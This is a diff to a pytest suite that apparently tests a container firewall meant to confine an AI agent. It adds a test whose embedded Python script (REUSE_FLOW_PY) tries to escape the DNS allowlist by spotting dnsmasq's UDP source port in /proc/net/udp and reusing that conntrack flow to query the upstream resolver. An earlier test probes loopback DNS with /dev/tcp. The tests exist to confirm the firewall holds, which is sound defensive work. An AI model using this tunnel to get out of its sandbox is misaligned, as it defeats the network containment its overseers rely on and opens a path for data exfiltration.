@@ -6,6 +6,7 @@ next to another file that does.
 
 from __future__ import annotations
 
+import secrets
 import time
 
 import pytest
@@ -15,9 +16,12 @@ from tests.test_firewall_container import (  # noqa: F401 (fixtures are found by
     gateway,
     host_http,
     internet,
+    net_name,
+    network_kind,
     product_image,
     sandbox,
     servers,
+    user_network,
 )
 
 pytestmark = pytest.mark.docker
@@ -53,3 +57,89 @@ def test_the_agent_cannot_use_loopback_addresses_around_dnsmasq(sandbox, interne
         code, output = box.sh(f"exec 3<>/dev/tcp/{host}/53 && echo CONNECTED")
         assert "CONNECTED" not in output, host
     assert not internet.asked("leak.test")
+
+
+# The agent's side of a DNS tunnel through dnsmasq's own upstream flow: watch /proc/net/udp for
+# another user's socket (dnsmasq's, or on user-defined networks the engine's forwarder) while an
+# allowlisted lookup is forwarded, bind the same port once the answer is in, and send any query to
+# the upstream resolver from it. conntrack still holds the flow for ~30 s after the socket closed.
+# Prints "TUNNEL ..." when the upstream answered, "held ..." per refused port.
+REUSE_FLOW_PY = r"""
+import os, random, socket, struct, sys, threading, time
+upstream, trigger, leak = sys.argv[1], sys.argv[2], sys.argv[3]
+me = os.getuid()
+
+def query(name):
+    header = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    return header + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"
+
+def foreign_ports():
+    found = set()
+    with open("/proc/net/udp") as table:
+        next(table)
+        for line in table:
+            fields = line.split()
+            port = int(fields[1].split(":")[1], 16)
+            if int(fields[7]) != me and port != 53:
+                found.add(port)
+    return found
+
+before = foreign_ports()
+answered = threading.Event()
+
+def ask():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(5)
+        s.sendto(query(trigger), ("127.0.0.1", 53))
+        try:
+            s.recv(4096)
+        except OSError:
+            pass
+    answered.set()
+
+threading.Thread(target=ask).start()
+seen = set()
+while not answered.is_set():
+    seen |= foreign_ports() - before
+if not seen:
+    print("no-socket-seen")
+    sys.exit(3)
+for port in sorted(seen):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    deadline = time.time() + 2
+    while True:
+        try:
+            s.bind(("0.0.0.0", port))
+            break
+        except OSError as error:
+            if time.time() > deadline:
+                print(f"cannot-bind {port}: {error}")
+                break
+            time.sleep(0.01)
+    s.settimeout(2)
+    try:
+        s.sendto(query(leak), (upstream, 53))
+        data = s.recv(4096)
+        print(f"TUNNEL from port {port}: {len(data)} bytes answered")
+        sys.exit(0)
+    except OSError as error:
+        print(f"held {port}: {error}")
+    finally:
+        s.close()
+sys.exit(1)
+"""
+
+
+def test_the_agent_cannot_reuse_dnsmasqs_flow_to_the_upstream(sandbox, internet, servers, gateway, network_kind):
+    """A DNS tunnel past the allowlist: the agent sends its own query from the source port of a
+    lookup dnsmasq (or the engine's forwarder) just finished, which conntrack still remembers."""
+    internet.set("*.wild.test", servers["alpha"].address(net_name(network_kind)))
+    box = sandbox(["*.wild.test"], network=network_kind)
+    internet.delay = 0.3  # a real upstream's latency: time for the agent to spot the socket
+    for attempt in range(3):
+        trigger = f"t{secrets.token_hex(4)}.wild.test"  # never cached: dnsmasq must forward it
+        code, output = box.run(["python3", "-c", REUSE_FLOW_PY, gateway, trigger, f"leak{attempt}.tunnel.test"])
+        assert "no-socket-seen" not in output, output  # the attack saw the flow it wants to reuse
+        assert "TUNNEL" not in output, output
+        assert internet.asked(trigger)
+    assert not [q.name for q in internet.queries if q.name.endswith("tunnel.test")]
